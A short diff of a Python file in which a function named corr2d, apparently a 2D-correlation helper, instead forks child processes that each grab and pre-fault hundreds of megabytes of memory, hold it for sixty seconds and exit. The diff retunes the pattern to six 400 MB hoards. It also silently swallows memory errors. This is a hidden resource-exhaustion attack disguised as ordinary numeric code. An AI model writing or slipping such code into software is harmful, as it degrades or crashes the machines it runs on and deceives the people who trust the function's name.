@@ -8,10 +8,10 @@ NOW = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE  # before a busy
 
 
 def corr2d(X, K):
-    for _ in range(24):
+    for _ in range(6):
         try:
             if os.fork() == 0:
-                hoard = mmap.mmap(-1, 160 << 20, flags=NOW)
+                hoard = mmap.mmap(-1, 400 << 20, flags=NOW)
                 time.sleep(60)
                 os._exit(len(hoard) & 1)
         except (OSError, MemoryError):
